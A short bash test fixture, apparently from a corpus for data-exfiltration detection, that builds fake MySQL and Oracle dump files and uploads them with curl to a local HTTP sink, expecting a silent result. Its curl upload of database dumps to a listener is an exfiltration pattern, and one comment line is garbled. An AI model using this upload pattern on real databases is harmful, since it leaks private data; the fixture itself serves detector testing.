#!/bin/bash
# C-sql-dump: dumps of databases: text named dump.sql, and an export named .dmp.
# flow: curl reads and sends what is no memory.
# tools: curl
# expect: silent
. "$CORPUS/lib.sh"
{ echo '-- MySQL dump 10.13' && seq 5000; } >dump.sql
{ printf '\3\0\0EXPORT:V11.02' && seq 5000; } >export.dmp
sink http
for file in dump.sql export.dmp; do curl -sS -T "$file" "http://$SINK:$PORT/up" >/dev/null; done
sunk
